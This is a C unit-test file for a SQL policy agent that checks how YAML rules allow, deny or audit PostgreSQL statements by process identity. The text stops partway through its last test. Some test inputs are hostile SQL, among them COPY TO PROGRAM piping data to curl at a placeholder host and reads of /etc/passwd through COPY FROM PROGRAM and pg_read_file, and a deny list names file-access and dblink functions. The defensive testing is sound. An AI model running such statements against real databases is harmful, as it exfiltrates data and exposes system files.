/*
 * agent/policy.c: tables of (rules, subject, SQL) -> (verdict, rule), one
 * per rule form of issue 4 and per evaluation-order promise of
 * docs/policy.md; and every way a rules list is refused, with its line.
 */
#include <criterion/criterion.h>

#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <yaml.h>

#include "agent/policy.h"
#include "agent/sql.h"

#define FILE_NAME "rules.yaml"
#define ERR_LEN 512

/* --- helpers ------------------------------------------------------------------- */

/* Compiles the `rules:` of a YAML document; NULL with @err filled on refusal. */
static struct policy *compile(const char *yaml, char *err)
{
	yaml_parser_t parser;
	yaml_document_t doc;
	const yaml_node_t *root, *rules = NULL;
	struct policy *p = NULL;

	err[0] = '\0';
	cr_assert(yaml_parser_initialize(&parser));
	yaml_parser_set_input_string(&parser, (const unsigned char *)yaml, strlen(yaml));
	cr_assert(yaml_parser_load(&parser, &doc), "bad test YAML: %s", parser.problem);
	root = yaml_document_get_root_node(&doc);
	cr_assert(root && root->type == YAML_MAPPING_NODE, "test YAML must be a mapping");
	for (yaml_node_pair_t *pair = root->data.mapping.pairs.start;
	     pair < root->data.mapping.pairs.top; pair++) {
		const yaml_node_t *key = yaml_document_get_node(&doc, pair->key);

		if (strcmp((const char *)key->data.scalar.value, "rules") == 0)
			rules = yaml_document_get_node(&doc, pair->value);
	}
	if (policy_parse(&doc, rules, FILE_NAME, &p, err, ERR_LEN) < 0)
		cr_assert_null(p);
	yaml_document_delete(&doc);
	yaml_parser_delete(&parser);
	return p;
}

static struct policy *compile_ok(const char *yaml)
{
	char err[ERR_LEN];
	struct policy *p = compile(yaml, err);

	cr_assert_not_null(p, "refused: %s\n%s", err, yaml);
	return p;
}

struct decide_case {
	const char *what;		/* the behaviour, for failure messages */
	const struct policy_subject *who;
	const char *sql;
	enum policy_action action;
	const char *rule;		/* NULL: decided by no rule */
	const char *audit;		/* NULL: no audit rule */
	size_t statement;
};

static void check(const struct policy *p, const struct decide_case *c)
{
	struct sql_parse sql;
	struct policy_decision d;

	cr_assert_eq(sql_parse(c->sql, strlen(c->sql), NULL, &sql), 0, "%s", c->sql);
	policy_decide(p, c->who, &sql, &d);
	cr_expect_eq(d.action, c->action, "%s: %s -> %s, want %s (rule %s)", c->what, c->sql,
		     policy_action_name(d.action), policy_action_name(c->action),
		     d.rule ? d.rule : "-");
	if (c->rule)
		cr_expect(d.rule && strcmp(d.rule, c->rule) == 0, "%s: %s decided by %s, want %s",
			  c->what, c->sql, d.rule ? d.rule : "-", c->rule);
	else
		cr_expect_null(d.rule, "%s: %s decided by %s, want no rule", c->what, c->sql,
			       d.rule);
	if (c->audit)
		cr_expect(d.audit_rule && strcmp(d.audit_rule, c->audit) == 0,
			  "%s: %s audited by %s, want %s", c->what, c->sql,
			  d.audit_rule ? d.audit_rule : "-", c->audit);
	else
		cr_expect_null(d.audit_rule, "%s: %s audited by %s, want none", c->what, c->sql,
			       d.audit_rule);
	cr_expect_eq(d.statement, c->statement, "%s: %s: statement %zu, want %zu", c->what,
		     c->sql, d.statement, c->statement);
	sql_parse_free(&sql);
}

static void check_all(const char *yaml, const struct policy_settings *settings,
		      const struct decide_case *cases, size_t n)
{
	struct policy *p = compile_ok(yaml);

	if (settings)
		policy_set_settings(p, settings);
	for (size_t i = 0; i < n; i++)
		check(p, &cases[i]);
	policy_free(p);
}

#define CHECK_ALL(yaml, settings, cases) \
	check_all(yaml, settings, cases, sizeof(cases) / sizeof((cases)[0]))

/* --- subjects ------------------------------------------------------------------- */

static const struct netaddr office_v4 = { .ip = { [10] = 0xff, [11] = 0xff, 10, 1, 2, 3 } };
static const struct netaddr lab_v4 = { .ip = { [10] = 0xff, [11] = 0xff, 10, 9, 0, 5 } };

static const struct policy_subject alice = {
	.uid = 1000, .gid = 1000, .has_uid = true, .comm = "psql", .exe = "/usr/bin/psql",
	.user = "alice", .cgroup_path = "/user.slice/user-1000.slice/session-3.scope",
	.db_user = "alice", .database = "app", .application_name = "psql",
	.client = &office_v4,
};

static const struct policy_subject dba = {
	.uid = 1002, .gid = 1002, .has_uid = true, .comm = "psql", .exe = "/usr/bin/psql",
	.user = "dba", .cgroup_path = "/user.slice/user-1002.slice/session-9.scope",
	.db_user = "postgres", .database = "app", .client = &office_v4,
};

static const struct policy_subject dba_script = {
	.uid = 1002, .gid = 1002, .has_uid = true, .comm = "python3", .user = "dba",
	.cgroup_path = "/user.slice/user-1002.slice/session-9.scope",
};

static const struct policy_subject ai_agent = {
	.uid = 1001, .gid = 1001, .has_uid = true, .comm = "python3",
	.exe = "/usr/bin/python3.11",
	.cgroup_path = "/kubepods.slice/kubepods-pod1234.slice/ai-agents-7/cri-containerd-ab.scope",
	.pod_name = "agent-7", .pod_namespace = "ai", .db_user = "agent", .database = "app",
	.client = &lab_v4,
};

static const struct policy_subject etl = {
	.uid = 1003, .gid = 1003, .has_uid = true, .comm = "python3",
	.cgroup_path = "/system.slice/etl.service", .db_user = "etl",
};

/* --- the rule forms of issue 4 ------------------------------------------------------ */

static const char issue4_rules[] =
	"rules:\n"
	"  - name: audit-orders\n"
	"    match: { tables: [orders] }\n"
	"    action: audit\n"
	"  - name: dba-may-drop\n"
	"    who: { user: dba, comm: [psql, pgcli] }\n"
	"    match: { statements: [drop] }\n"
	"    action: allow\n"
	"  - name: no-drop\n"
	"    match: { statements: [drop, truncate] }\n"
	"    action: deny\n"
	"  - name: scoped-writes\n"
	"    match: { statements: [delete, update], where: absent }\n"
	"    action: deny\n"
	"  - name: no-secrets\n"
	"    match: { tables: [secrets, \"billing.*\"] }\n"
	"    action: deny\n"
	"  - name: ai-agent-read-only\n"
	"    who: { comm: python3, cgroup: \"*ai-agents*\" }\n"
	"    match: { statements: [insert, update, delete, merge, ddl] }\n"
	"    action: deny\n"
	"  - name: ai-agent-no-code\n"
	"    who: { cgroup: \"*ai-agents*\" }\n"
	"    match: { opaque: true }\n"
	"    action: deny\n"
	"  - name: no-copy-program\n"
	"    match: { copy: program }\n"
	"    action: deny\n"
	"  - name: no-file-access\n"
	"    match:\n"
	"      functions: [pg_read_file, pg_read_binary_file, lo_export, lo_import, \"dblink*\"]\n"
	"    action: deny\n";

Test(policy, no_drop_denies_drop_and_truncate_however_spelled)
{
	static const struct decide_case cases[] = {
		{ .what = "drop", .who = &alice, .sql = "DROP TABLE t", .action = POLICY_DENY,
		  .rule = "no-drop" },
		{ .what = "lower case", .who = &alice, .sql = "drop table t", .action = POLICY_DENY,
		  .rule = "no-drop" },
		{ .what = "comments", .who = &alice, .sql = "/* x */ DROP -- y\n TABLE t",
		  .action = POLICY_DENY, .rule = "no-drop" },
		{ .what = "drop schema", .who = &alice, .sql = "DROP SCHEMA s CASCADE",
		  .action = POLICY_DENY, .rule = "no-drop" },
		{ .what = "drop owned", .who = &alice, .sql = "DROP OWNED BY bob",
		  .action = POLICY_DENY, .rule = "no-drop" },
		{ .what = "truncate", .who = &alice, .sql = "TRUNCATE a, b", .action = POLICY_DENY,
		  .rule = "no-drop" },
		{ .what = "create is allowed", .who = &alice, .sql = "CREATE TABLE t (a int)",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "multi-statement: second denied", .who = &alice,
		  .sql = "SELECT 1; DROP TABLE t", .action = POLICY_DENY, .rule = "no-drop",
		  .statement = 1 },
		{ .what = "multi-statement: first of two denied", .who = &alice,
		  .sql = "TRUNCATE t; DROP TABLE u; SELECT 1", .action = POLICY_DENY,
		  .rule = "no-drop", .statement = 0 },
		/* PREPARE takes only select/insert/update/delete/merge: a syntax error. */
		{ .what = "prepare drop is unparsable", .who = &alice,
		  .sql = "PREPARE p AS DROP TABLE t", .action = POLICY_DENY, .rule = NULL },
	};

	CHECK_ALL(issue4_rules, NULL, cases);
}

Test(policy, scoped_writes_denies_delete_and_update_without_a_real_where)
{
	static const struct decide_case cases[] = {
		{ .what = "no where", .who = &alice, .sql = "DELETE FROM t", .action = POLICY_DENY,
		  .rule = "scoped-writes" },
		{ .what = "where true", .who = &alice, .sql = "DELETE FROM t WHERE true",
		  .action = POLICY_DENY, .rule = "scoped-writes" },
		{ .what = "where 1 = 1", .who = &alice, .sql = "DELETE FROM t WHERE 1 = 1",
		  .action = POLICY_DENY, .rule = "scoped-writes" },
		{ .what = "where $1", .who = &alice, .sql = "DELETE FROM t WHERE $1",
		  .action = POLICY_DENY, .rule = "scoped-writes" },
		{ .what = "update no where", .who = &alice, .sql = "UPDATE t SET a = 1",
		  .action = POLICY_DENY, .rule = "scoped-writes" },
		{ .what = "update where not false", .who = &alice,
		  .sql = "update t set a = 1 where not false", .action = POLICY_DENY,
		  .rule = "scoped-writes" },
		{ .what = "real where", .who = &alice, .sql = "DELETE FROM t WHERE id = 1",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "update real where", .who = &alice,
		  .sql = "UPDATE t SET a = 1 WHERE id = 2", .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "where current of", .who = &alice,
		  .sql = "DELETE FROM t WHERE CURRENT OF c", .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "data-modifying CTE", .who = &alice,
		  .sql = "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
		  .action = POLICY_DENY, .rule = "scoped-writes", .audit = "audit-orders" },
		{ .what = "CTE with a scoped delete", .who = &alice,
		  .sql = "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "explain analyze runs it", .who = &alice,
		  .sql = "EXPLAIN ANALYZE DELETE FROM t", .action = POLICY_DENY,
		  .rule = "scoped-writes" },
		{ .what = "explain (analyze) runs it", .who = &alice,
		  .sql = "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", .action = POLICY_DENY,
		  .rule = "scoped-writes" },
		{ .what = "explain alone is judged like the statement", .who = &alice,
		  .sql = "EXPLAIN DELETE FROM t", .action = POLICY_DENY, .rule = "scoped-writes" },
		{ .what = "prepare is judged like the statement", .who = &alice,
		  .sql = "PREPARE p AS DELETE FROM t", .action = POLICY_DENY,
		  .rule = "scoped-writes" },
		{ .what = "copy of a delete", .who = &alice,
		  .sql = "COPY (DELETE FROM t RETURNING *) TO STDOUT", .action = POLICY_DENY,
		  .rule = "scoped-writes" },
		{ .what = "merge on a column is scoped", .who = &alice,
		  .sql = "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "merge on true deletes everything", .who = &alice,
		  .sql = "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
		  .action = POLICY_DENY, .rule = "scoped-writes" },
		{ .what = "upsert update is scoped by the conflict", .who = &alice,
		  .sql = "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "insert is not a where rule's business", .who = &alice,
		  .sql = "INSERT INTO t VALUES (1)", .action = POLICY_ALLOW, .rule = NULL },
	};

	CHECK_ALL(issue4_rules, NULL, cases);
}

Test(policy, no_secrets_sees_through_quoting_case_schemas_and_nesting)
{
	static const struct decide_case cases[] = {
		{ .what = "bare", .who = &alice, .sql = "SELECT * FROM secrets",
		  .action = POLICY_DENY, .rule = "no-secrets" },
		{ .what = "quoted", .who = &alice, .sql = "SELECT * FROM \"secrets\"",
		  .action = POLICY_DENY, .rule = "no-secrets" },
		{ .what = "upper case folds", .who = &alice, .sql = "SELECT * FROM SECRETS",
		  .action = POLICY_DENY, .rule = "no-secrets" },
		{ .what = "unicode escape", .who = &alice,
		  .sql = "SELECT * FROM U&\"secr\\0065ts\"", .action = POLICY_DENY,
		  .rule = "no-secrets" },
		{ .what = "public schema", .who = &alice, .sql = "SELECT * FROM public.secrets",
		  .action = POLICY_DENY, .rule = "no-secrets" },
		{ .what = "any schema", .who = &alice, .sql = "SELECT * FROM other.Secrets",
		  .action = POLICY_DENY, .rule = "no-secrets" },
		{ .what = "catalog qualified", .who = &alice,
		  .sql = "SELECT * FROM app.public.secrets", .action = POLICY_DENY,
		  .rule = "no-secrets" },
		{ .what = "comments between tokens", .who = &alice,
		  .sql = "SELECT/**/*/**/FROM/**/secrets", .action = POLICY_DENY,
		  .rule = "no-secrets" },
		{ .what = "subquery", .who = &alice,
		  .sql = "SELECT 1 FROM t WHERE id IN (SELECT id FROM secrets)",
		  .action = POLICY_DENY, .rule = "no-secrets" },
		{ .what = "cte", .who = &alice,
		  .sql = "WITH s AS (SELECT * FROM secrets) SELECT * FROM s", .action = POLICY_DENY,
		  .rule = "no-secrets" },
		{ .what = "join", .who = &alice,
		  .sql = "SELECT * FROM a JOIN public.secrets s ON a.id = s.id",
		  .action = POLICY_DENY, .rule = "no-secrets" },
		{ .what = "write", .who = &alice, .sql = "INSERT INTO secrets VALUES (1)",
		  .action = POLICY_DENY, .rule = "no-secrets" },
		{ .what = "copy", .who = &alice, .sql = "COPY secrets TO STDOUT",
		  .action = POLICY_DENY, .rule = "no-secrets" },
		{ .what = "schema glob", .who = &alice, .sql = "SELECT * FROM billing.invoices",
		  .action = POLICY_DENY, .rule = "no-secrets" },
		{ .what = "schema glob, folded", .who = &alice,
		  .sql = "SELECT * FROM BILLING.Invoices", .action = POLICY_DENY,
		  .rule = "no-secrets" },
		{ .what = "schema glob, catalog qualified", .who = &alice,
		  .sql = "SELECT * FROM app.billing.invoices", .action = POLICY_DENY,
		  .rule = "no-secrets" },
		{ .what = "quoted mixed case is another table", .who = &alice,
		  .sql = "SELECT * FROM \"Secrets\"", .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "longer name", .who = &alice, .sql = "SELECT * FROM secrets_archive",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "schema named like the table", .who = &alice,
		  .sql = "SELECT * FROM secrets.t", .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "unqualified name cannot be tied to a schema", .who = &alice,
		  .sql = "SELECT * FROM invoices", .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "other schema", .who = &alice, .sql = "SELECT * FROM billingx.invoices",
		  .action = POLICY_ALLOW, .rule = NULL },
	};

	CHECK_ALL(issue4_rules, NULL, cases);
}

Test(policy, identity_rules_apply_only_to_matching_processes)
{
	static const struct decide_case cases[] = {
		{ .what = "agent insert", .who = &ai_agent, .sql = "INSERT INTO t VALUES (1)",
		  .action = POLICY_DENY, .rule = "ai-agent-read-only" },
		{ .what = "agent ddl", .who = &ai_agent, .sql = "CREATE TABLE x (a int)",
		  .action = POLICY_DENY, .rule = "ai-agent-read-only" },
		{ .what = "agent grant (ddl)", .who = &ai_agent, .sql = "GRANT SELECT ON t TO bob",
		  .action = POLICY_DENY, .rule = "ai-agent-read-only" },
		{ .what = "agent scoped update", .who = &ai_agent,
		  .sql = "UPDATE t SET a = 1 WHERE id = 1", .action = POLICY_DENY,
		  .rule = "ai-agent-read-only" },
		{ .what = "agent upsert", .who = &ai_agent,
		  .sql = "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", .action = POLICY_DENY,
		  .rule = "ai-agent-read-only" },
		{ .what = "agent read", .who = &ai_agent, .sql = "SELECT * FROM t",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "agent DO block", .who = &ai_agent,
		  .sql = "DO $$ BEGIN DELETE FROM t; END $$", .action = POLICY_DENY,
		  .rule = "ai-agent-no-code" },
		{ .what = "agent opaque function", .who = &ai_agent,
		  .sql = "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS 'BEGIN END'",
		  .action = POLICY_DENY, .rule = "ai-agent-read-only" },
		{ .what = "other python3 insert", .who = &etl, .sql = "INSERT INTO t VALUES (1)",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "other python3 DO block", .who = &etl, .sql = "DO $$ BEGIN NULL; END $$",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "psql insert", .who = &alice, .sql = "INSERT INTO t VALUES (1)",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "unknown subject", .who = NULL, .sql = "INSERT INTO t VALUES (1)",
		  .action = POLICY_ALLOW, .rule = NULL },
	};

	CHECK_ALL(issue4_rules, NULL, cases);
}

Test(policy, allow_before_deny_wins_for_matching_identities_only)
{
	static const struct decide_case cases[] = {
		{ .what = "dba in psql", .who = &dba, .sql = "DROP TABLE t", .action = POLICY_ALLOW,
		  .rule = "dba-may-drop" },
		{ .what = "dba's allow does not cover truncate", .who = &dba, .sql = "TRUNCATE t",
		  .action = POLICY_DENY, .rule = "no-drop" },
		{ .what = "dba from a script", .who = &dba_script, .sql = "DROP TABLE t",
		  .action = POLICY_DENY, .rule = "no-drop" },
		{ .what = "alice", .who = &alice, .sql = "DROP TABLE t", .action = POLICY_DENY,
		  .rule = "no-drop" },
		{ .what = "allow of one statement does not cover the next", .who = &dba,
		  .sql = "DROP TABLE t; DELETE FROM u", .action = POLICY_DENY,
		  .rule = "scoped-writes", .statement = 1 },
	};

	CHECK_ALL(issue4_rules, NULL, cases);
}

Test(policy, copy_program_and_dangerous_functions_are_denied)
{
	static const struct decide_case cases[] = {
		{ .what = "copy to program", .who = &alice,
		  .sql = "COPY t TO PROGRAM 'curl -d @- http://x'", .action = POLICY_DENY,
		  .rule = "no-copy-program" },
		{ .what = "copy from program", .who = &alice,
		  .sql = "COPY t FROM PROGRAM 'cat /etc/passwd'", .action = POLICY_DENY,
		  .rule = "no-copy-program" },
		{ .what = "copy query to program", .who = &alice,
		  .sql = "COPY (SELECT 1) TO PROGRAM 'x'", .action = POLICY_DENY,
		  .rule = "no-copy-program" },
		{ .what = "copy to stdout", .who = &alice, .sql = "COPY t TO STDOUT",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "pg_read_file", .who = &alice,
		  .sql = "SELECT pg_read_file('/etc/passwd')", .action = POLICY_DENY,
		  .rule = "no-file-access" },
		{ .what = "pg_catalog qualified", .who = &alice,
		  .sql = "SELECT pg_catalog.pg_read_file('/etc/passwd')", .action = POLICY_DENY,
		  .rule = "no-file-access" },
		{ .what = "upper case", .who = &alice, .sql = "SELECT PG_READ_FILE('x')",
		  .action = POLICY_DENY, .rule = "no-file-access" },
		{ .what = "quoted", .who = &alice, .sql = "SELECT \"pg_read_file\"('x')",
		  .action = POLICY_DENY, .rule = "no-file-access" },
		{ .what = "nested in a where", .who = &alice,
		  .sql = "SELECT 1 FROM t WHERE pg_read_file('x') <> ''", .action = POLICY_DENY,
		  .rule = "no-file-access" },
		{ .what = "lo_export", .who = &alice, .sql = "SELECT lo_export(123, '/tmp/x')",
		  .action = POLICY_DENY, .rule = "no-file-access" },
		{ .what = "dblink", .who = &alice,
		  .sql = "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)",
		  .action = POLICY_DENY, .rule = "no-file-access" },
		{ .what = "dblink_exec glob", .who = &alice,
		  .sql = "SELECT dblink_exec('DROP TABLE t')", .action = POLICY_DENY,
		  .rule = "no-file-access" },
		{ .what = "other function", .who = &alice, .sql = "SELECT now(), lower('A')",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "same name, quoted case", .who = &alice,
		  .sql = "SELECT \"PG_READ_FILE\"('x')", .action = POLICY_ALLOW, .rule = NULL },
	};

	CHECK_ALL(issue4_rules, NULL, cases);
}

Test(policy, audit_rules_are_recorded_and_evaluation_goes_on)
{
	static const struct decide_case cases[] = {
		{ .what = "audited read", .who = &alice, .sql = "SELECT * FROM orders",
		  .action = POLICY_ALLOW, .rule = NULL, .audit = "audit-orders" },
		{ .what = "audited and denied", .who = &alice, .sql = "DELETE FROM orders",
		  .action = POLICY_DENY, .rule = "scoped-writes", .audit = "audit-orders" },
		{ .what = "audited and allowed by a later rule", .who = &dba,
		  .sql = "DROP TABLE orders", .action = POLICY_ALLOW, .rule = "dba-may-drop",
		  .audit = "audit-orders" },
		{ .what = "second statement audited", .who = &alice,
		  .sql = "SELECT 1; SELECT * FROM public.orders", .action = POLICY_ALLOW,
		  .rule = NULL, .audit = "audit-orders" },
		{ .what = "not audited", .who = &alice, .sql = "SELECT * FROM t",
		  .action = POLICY_ALLOW, .rule = NULL },
	};

	CHECK_ALL(issue4_rules, NULL, cases);
}

Test(policy, audit_rule_after_the_deciding_rule_is_not_reached)
{
	static const char yaml[] =
		"rules:\n"
		"  - {name: no-drop, match: {statements: drop}, action: deny}\n"
		"  - {name: audit-all, action: audit}\n";
	static const struct decide_case cases[] = {
		{ .what = "decided first", .who = &alice, .sql = "DROP TABLE t",
		  .action = POLICY_DENY, .rule = "no-drop" },
		{ .what = "reached", .who = &alice, .sql = "SELECT 1", .action = POLICY_ALLOW,
		  .rule = NULL, .audit = "audit-all" },
	};

	CHECK_ALL(yaml, NULL, cases);
}

/* --- defaults, empty and unparsable text ------------------------------------------ */

Test(policy, default_allow_and_no_rules)
{
	static const struct decide_case cases[] = {
		{ .what = "anything", .who = &alice, .sql = "DROP TABLE t", .action = POLICY_ALLOW,
		  .rule = NULL },
		{ .what = "empty text", .who = &alice, .sql = "", .action = POLICY_ALLOW,
		  .rule = NULL },
		{ .what = "only comments", .who = &alice, .sql = "-- nothing\n/* at all */ ;",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "unparsable", .who = &alice, .sql = "SELEC 1", .action = POLICY_DENY,
		  .rule = NULL },
	};

	CHECK_ALL("rules: []\n", NULL, cases);
	CHECK_ALL("rules:\n", NULL, cases);
	CHECK_ALL("other: 1\n", NULL, cases);
}

Test(policy, default_deny_lets_only_allowed_statements_through)
{
	static const char yaml[] =
		"rules:\n"
		"  - name: office-reads\n"
		"    who: { client: [10.1.0.0/16, \"fd00::/8\"] }\n"
		"    match: { statements: [select, set, show, transaction] }\n"
		"    action: allow\n"
		"  - name: root\n"
		"    who: { uid: 0 }\n"
		"    action: allow\n";
	static const struct policy_settings deny_by_default = {
		.default_action = POLICY_DENY,
	};
	static const struct netaddr v6_office = { .ip = { 0xfd, 0, [15] = 5 } };
	static const struct netaddr v6_other = { .ip = { 0xfe, 0x80, [15] = 5 } };
	static const struct policy_subject root = { .uid = 0, .has_uid = true };
	static const struct policy_subject uid_unknown = { .uid = 0, .has_uid = false };
	static const struct policy_subject office6 = { .client = &v6_office };
	static const struct policy_subject other6 = { .client = &v6_other };
	static const struct policy_subject no_client = { .comm = "psql" };
	static const struct decide_case cases[] = {
		{ .what = "office read", .who = &alice, .sql = "SELECT * FROM t",
		  .action = POLICY_ALLOW, .rule = "office-reads" },
		{ .what = "office transaction", .who = &alice, .sql = "BEGIN; SELECT 1; COMMIT",
		  .action = POLICY_ALLOW, .rule = "office-reads" },
		{ .what = "office write", .who = &alice, .sql = "INSERT INTO t VALUES (1)",
		  .action = POLICY_DENY, .rule = NULL },
		{ .what = "office read then write", .who = &alice,
		  .sql = "SELECT 1; UPDATE t SET a = 1 WHERE id = 1", .action = POLICY_DENY,
		  .rule = NULL, .statement = 1 },
		{ .what = "outside read", .who = &ai_agent, .sql = "SELECT 1",
		  .action = POLICY_DENY, .rule = NULL },
		{ .what = "ipv6 office", .who = &office6, .sql = "SELECT 1", .action = POLICY_ALLOW,
		  .rule = "office-reads" },
		{ .what = "ipv6 outside", .who = &other6, .sql = "SELECT 1", .action = POLICY_DENY,
		  .rule = NULL },
		{ .what = "client unknown", .who = &no_client, .sql = "SELECT 1",
		  .action = POLICY_DENY, .rule = NULL },
		{ .what = "nobody known", .who = NULL, .sql = "SELECT 1", .action = POLICY_DENY,
		  .rule = NULL },
		{ .what = "root anything", .who = &root, .sql = "DROP TABLE t",
		  .action = POLICY_ALLOW, .rule = "root" },
		{ .what = "uid 0 but not known", .who = &uid_unknown, .sql = "DROP TABLE t",
		  .action = POLICY_DENY, .rule = NULL },
		{ .what = "empty text still allowed", .who = &ai_agent, .sql = "",
		  .action = POLICY_ALLOW, .rule = NULL },
	};

	CHECK_ALL(yaml, &deny_by_default, cases);
}

static void decide_text(const struct policy *p, const char *text, size_t len,
			struct policy_decision *d)
{
	struct sql_parse sql;

	cr_assert_eq(sql_parse(text, len, NULL, &sql), 0);
	policy_decide(p, &alice, &sql, d);
	sql_parse_free(&sql);
}

/* A literal with its exact length, NUL bytes included. */
#define DECIDE(p, literal, d) decide_text(p, literal, sizeof(literal) - 1, d)

Test(policy, unparsable_text_is_denied_by_default)
{
	struct policy *p = compile_ok("rules: [{name: all, action: allow}]\n");
	struct policy_decision d;

	DECIDE(p, "SELEC 1", &d);
	cr_assert_eq(d.action, POLICY_DENY);
	cr_assert_eq(d.basis, POLICY_BASIS_UNPARSABLE);
	cr_assert_null(d.rule);
	/* PostgreSQL 17 syntax (MERGE ... RETURNING): not read, so not forwarded. */
	DECIDE(p, "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE RETURNING *; "
		  "DROP TABLE t", &d);
	cr_assert_eq(d.action, POLICY_DENY);
	policy_decide(p, &alice, NULL, &d);
	cr_assert_eq(d.action, POLICY_DENY);
	policy_decide(NULL, &alice, NULL, &d);
	cr_assert_eq(d.action, POLICY_DENY);
	policy_free(p);
}

Test(policy, unparsable_forward_passes_only_syntax_errors)
{
	struct policy *p = compile_ok("rules: [{name: all, action: deny}]\n");
	struct policy_settings forward = { .unparsable = POLICY_UNPARSABLE_FORWARD };
	struct policy_decision d;

	policy_set_settings(p, &forward);
	DECIDE(p, "SELEC 1", &d);
	cr_assert_eq(d.action, POLICY_ALLOW, "syntax error forwarded");
	cr_assert_eq(d.basis, POLICY_BASIS_UNPARSABLE);
	cr_assert_null(d.rule);
	DECIDE(p, "SELECT 1\0; DROP TABLE t", &d);
	cr_assert_eq(d.action, POLICY_DENY, "a NUL byte is never forwarded");
	cr_assert_eq(d.basis, POLICY_BASIS_UNPARSABLE);
	policy_free(p);
}

Test(policy, decision_basis_says_why)
{
	struct policy *p = compile_ok("rules: [{name: no-drop, match: {statements: drop}, "
				      "action: deny}, {name: reads, match: {statements: select},"
				      " action: allow}]\n");
	struct policy_decision d;

	DECIDE(p, "", &d);
	cr_assert_eq(d.basis, POLICY_BASIS_EMPTY);
	DECIDE(p, "VACUUM", &d);
	cr_assert_eq(d.basis, POLICY_BASIS_DEFAULT);
	cr_assert_eq(d.action, POLICY_ALLOW);
	DECIDE(p, "VACUUM; SELECT 1", &d);
	cr_assert_eq(d.basis, POLICY_BASIS_RULE);
	cr_assert_str_eq(d.rule, "reads");
	cr_assert_eq(d.statement, 1);
	DECIDE(p, "SELECT 1; DROP TABLE t", &d);
	cr_assert_eq(d.basis, POLICY_BASIS_RULE);
	cr_assert_str_eq(d.rule, "no-drop");
	cr_assert_eq(d.statement, 1);
	cr_assert_eq(policy_rule_count(p), 2);
	policy_free(p);
}

/* --- who selectors ---------------------------------------------------------------- */

Test(policy, each_string_selector_matches_its_field_by_glob)
{
	static const struct {
		const char *word;
		size_t offset;
	} selectors[] = {
		{ "comm", offsetof(struct policy_subject, comm) },
		{ "exe", offsetof(struct policy_subject, exe) },
		{ "user", offsetof(struct policy_subject, user) },
		{ "cgroup", offsetof(struct policy_subject, cgroup_path) },
		{ "container_id", offsetof(struct policy_subject, container_id) },
		{ "pod_uid", offsetof(struct policy_subject, pod_uid) },
		{ "pod", offsetof(struct policy_subject, pod_name) },
		{ "namespace", offsetof(struct policy_subject, pod_namespace) },
		{ "db_user", offsetof(struct policy_subject, db_user) },
		{ "database", offsetof(struct policy_subject, database) },
		{ "application_name", offsetof(struct policy_subject, application_name) },
	};

	for (size_t i = 0; i < sizeof(selectors) / sizeof(selectors[0]); i++) {
		char yaml[256];
		struct policy *p;
		struct policy_subject who = { 0 };
		const char *value;
		struct sql_parse sql;
		struct policy_decision d;

		snprintf(yaml, sizeof(yaml), "rules:\n  - name: r\n    who: {%s: [nomatch, "
			 "\"pro?-*\"]}\n    action: deny\n", selectors[i].word);
		p = compile_ok(yaml);
		cr_assert_eq(sql_parse("SELECT 1", 8, NULL, &sql), 0);

		policy_decide(p, &who, &sql, &d);
		cr_expect_eq(d.action, POLICY_ALLOW, "%s unknown must not match",
			     selectors[i].word);
		value = "prod-db/1";
		memcpy((char *)&who + selectors[i].offset, &value, sizeof(value));
		policy_decide(p, &who, &sql, &d);
		cr_expect_eq(d.action, POLICY_DENY, "%s: glob must match '%s'", selectors[i].word,
			     value);
		value = "staging";
		memcpy((char *)&who + selectors[i].offset, &value, sizeof(value));
		policy_decide(p, &who, &sql, &d);
		cr_expect_eq(d.action, POLICY_ALLOW, "%s: must not match '%s'",
			     selectors[i].word, value);
		sql_parse_free(&sql);
		policy_free(p);
	}
}

Test(policy, every_selector_given_must_hold)
{
	static const char yaml[] =
		"rules:\n"
		"  - name: agents-in-ai\n"
		"    who:\n"
		"      exe: \"/usr/bin/python3*\"\n"
		"      uid: [1001, 1005]\n"
		"      gid: 1001\n"
		"      pod: \"agent-*\"\n"
		"      namespace: ai\n"
		"      db_user: agent\n"
		"      client: 10.9.0.0/16\n"
		"    action: deny\n";
	static const struct policy_subject wrong_gid = {
		.uid = 1001, .gid = 7, .has_uid = true, .comm = "python3",
		.exe = "/usr/bin/python3.11", .pod_name = "agent-7", .pod_namespace = "ai",
		.db_user = "agent", .client = &lab_v4,
	};
	static const struct policy_subject wrong_ns = {
		.uid = 1001, .gid = 1001, .has_uid = true, .exe = "/usr/bin/python3.11",
		.pod_name = "agent-7", .pod_namespace = "ai-staging", .db_user = "agent",
		.client = &lab_v4,
	};
	static const struct decide_case cases[] = {
		{ .what = "all hold", .who = &ai_agent, .sql = "SELECT 1", .action = POLICY_DENY,
		  .rule = "agents-in-ai" },
		{ .what = "gid differs", .who = &wrong_gid, .sql = "SELECT 1",
		  .action = POLICY_ALLOW, .rule = NULL },
